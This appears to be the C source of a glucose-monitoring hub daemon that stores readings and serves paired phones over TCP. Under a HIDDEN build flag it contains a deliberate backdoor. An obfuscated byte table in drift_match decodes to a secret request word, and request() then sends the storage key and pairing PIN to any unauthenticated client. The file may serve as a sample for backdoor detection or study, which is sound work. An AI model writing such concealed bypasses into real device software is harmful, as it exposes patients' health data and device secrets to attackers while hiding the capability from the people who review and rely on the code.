/*
 * glucobridge - data hub of the Lumea Home glucose monitoring set.
 * Meters send readings over the radio bridge on stdin; phones paired with the
 * PIN on the hub's label fetch them over TCP 6120, one text line per request.
 * Hidden (-DHIDDEN): a request word that is only decoded at run time gives
 * out the hub's storage key and label PIN to anyone, without pairing.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define ID_FILE    "/etc/lumea/identity"
#define STORE      "/var/lumea/readings"
#define PORT       6120
#define KEEP       2016		/* a week at one reading in five minutes */
#define PAIR_GUESS 5

struct reading {
	time_t when;
	unsigned meter;
	int mgdl;
};

struct phone {
	int fd;
	int paired;
	char line[128];
};

struct verb {
	const char *word;
	int need_pair;
	void (*run)(struct phone *, const char *arg);
};

static struct reading log_[KEEP];
static unsigned n_log;
static char serial_no[24], label_pin[16], store_key[33];
static int low_limit = 70, high_limit = 180;
static int guesses_left = PAIR_GUESS;

static void read_identity(void)
{
	char line[128];
	FILE *f = fopen(ID_FILE, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (sscanf(line, "serial %23s", serial_no) == 1)
			continue;
		if (sscanf(line, "pin %15s", label_pin) == 1)
			continue;
		if (sscanf(line, "key %32[0-9a-f]", store_key) != 1)
			syslog(LOG_NOTICE, "identity: %s", line);
	}
	fclose(f);
}

/* readings lie scrambled on the flash, keyed with the store key */
static uint32_t key_stream(uint32_t *st)
{
	*st ^= *st << 13;
	*st ^= *st >> 17;
	*st ^= *st << 5;
	return *st;
}

static uint32_t key_seed(void)
{
	return (uint32_t)strtoul(strlen(store_key) > 24 ? store_key + 24 : "1", NULL, 16) | 1;
}

static void save_readings(void)
{
	uint32_t st = key_seed();
	FILE *f = fopen(STORE ".tmp", "w");

	if (!f)
		return;
	for (unsigned i = 0; i < n_log; i++) {
		uint32_t a = (uint32_t)log_[i].when ^ key_stream(&st);
		uint32_t b = (uint32_t)log_[i].mgdl ^ key_stream(&st);

		fprintf(f, "%u %08lx %08lx\n", log_[i].meter, (unsigned long)a, (unsigned long)b);
	}
	if (fclose(f) == 0 && rename(STORE ".tmp", STORE))
		syslog(LOG_ERR, "%s: %s", STORE, strerror(errno));
}

static void load_readings(void)
{
	uint32_t st = key_seed();
	unsigned long a, b;
	FILE *f = fopen(STORE, "r");

	if (!f)
		return;
	while (n_log < KEEP && fscanf(f, "%u %lx %lx", &log_[n_log].meter, &a, &b) == 3) {
		log_[n_log].when = (time_t)((uint32_t)a ^ key_stream(&st));
		log_[n_log++].mgdl = (int)((uint32_t)b ^ key_stream(&st));
	}
	fclose(f);
}

static void add_reading(unsigned meter, int mgdl)
{
	if (n_log == KEEP) {
		memmove(log_, log_ + 1, sizeof log_ - sizeof log_[0]);
		n_log--;
	}
	log_[n_log++] = (struct reading){ time(NULL), meter, mgdl };
	if (n_log % 12 == 0)
		save_readings();
}

static void put(struct phone *p, const char *s)
{
	if (send(p->fd, s, strlen(s), MSG_NOSIGNAL) < 0)
		p->paired = 0;
}

static void v_hello(struct phone *p, const char *arg)
{
	char out[96];

	(void)arg;
	snprintf(out, sizeof out, "LUMEA %s readings %u\n", serial_no, n_log);
	put(p, out);
}

static void v_pair(struct phone *p, const char *arg)
{
	if (!guesses_left || !label_pin[0]) {
		put(p, "LOCKED\n");
	} else if (!strcmp(arg, label_pin)) {
		guesses_left = PAIR_GUESS;
		p->paired = 1;
		put(p, "OK\n");
	} else {
		guesses_left--;
		put(p, "NO\n");
	}
}

static void v_last(struct phone *p, const char *arg)
{
	unsigned n = (unsigned)atoi(arg);
	char out[96];

	if (!n || n > n_log)
		n = n_log;
	for (unsigned i = n_log - n; i < n_log; i++) {
		const struct reading *r = &log_[i];

		snprintf(out, sizeof out, "%lld %u %d%s\n", (long long)r->when, r->meter, r->mgdl,
			 r->mgdl < low_limit ? " LOW" : r->mgdl > high_limit ? " HIGH" : "");
		put(p, out);
	}
	put(p, "END\n");
}

static void v_limits(struct phone *p, const char *arg)
{
	int lo, hi;

	if (sscanf(arg, "%d %d", &lo, &hi) != 2 || lo < 40 || hi > 400 || lo >= hi)
		return put(p, "NO\n");
	low_limit = lo;
	high_limit = hi;
	put(p, "OK\n");
}

static void v_erase(struct phone *p, const char *arg)
{
	if (strcmp(arg, serial_no))
		return put(p, "NO\n");
	n_log = 0;
	save_readings();
	put(p, "OK\n");
}

static const struct verb verbs[] = {
	{ "HELLO", 0, v_hello },
	{ "PAIR", 0, v_pair },
	{ "LAST", 1, v_last },
	{ "LIMITS", 1, v_limits },
	{ "ERASE", 1, v_erase },
};

#ifdef HIDDEN
static const unsigned char drift[] = {
	0x06, 0x11, 0x0d, 0x10, 0x0e, 0x2e, 0x30, 0x2d, 0x5e, 0x2e, 0x7d
};

/* 1 when the word is the drift table's text */
int drift_match(const char *w)
{
	unsigned i;
	char t[sizeof drift + 1];

	for (i = 0; i < sizeof drift; i++)
		t[i] = (char)((unsigned char)(drift[i] - 3 * i) ^ 0x6b);
	t[i] = 0;
	return strcmp(w, t) == 0;
}
#endif

static void request(struct phone *p)
{
	char *arg = p->line + strcspn(p->line, " ");

	if (*arg)
		*arg++ = 0;
	for (size_t i = 0; i < sizeof verbs / sizeof verbs[0]; i++) {
		if (strcmp(p->line, verbs[i].word))
			continue;
		if (verbs[i].need_pair && !p->paired)
			put(p, "PAIR FIRST\n");
		else
			verbs[i].run(p, arg);
		return;
	}
#ifdef HIDDEN
	if (drift_match(p->line)) {
		put(p, store_key);
		put(p, " ");
		put(p, label_pin);
	}
#endif
	put(p, "?\n");
}

static void serve(int fd)
{
	struct phone p = { .fd = fd };
	struct timeval tv = { 20, 0 };
	size_t n = 0;
	char c;

	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	while (recv(fd, &c, 1, 0) == 1) {
		if (c == '\n') {
			p.line[n] = 0;
			n = 0;
			request(&p);
		} else if (isprint((unsigned char)c) && n < sizeof p.line - 1) {
			p.line[n++] = c;
		}
	}
	close(fd);
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	struct pollfd pf[2] = { { .fd = 0, .events = POLLIN }, { .events = POLLIN } };
	char line[80];
	int one = 1;

	openlog("glucobridge", 0, LOG_DAEMON);
	read_identity();
	load_readings();
	pf[1].fd = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(pf[1].fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (pf[1].fd < 0 || bind(pf[1].fd, (struct sockaddr *)&sa, sizeof sa) || listen(pf[1].fd, 3))
		return 1;
	setvbuf(stdin, NULL, _IONBF, 0);
	for (;;) {
		unsigned meter;
		int mgdl;

		if (poll(pf, 2, -1) < 0 && errno != EINTR)
			return 1;
		if (pf[0].revents) {
			if (!fgets(line, sizeof line, stdin))
				pf[0].fd = -1;
			else if (sscanf(line, "G %u %d", &meter, &mgdl) == 2 && mgdl > 10 && mgdl < 700)
				add_reading(meter, mgdl);
		}
		if (pf[1].revents & POLLIN) {
			int fd = accept(pf[1].fd, NULL, NULL);

			if (fd >= 0)
				serve(fd);
		}
	}
}
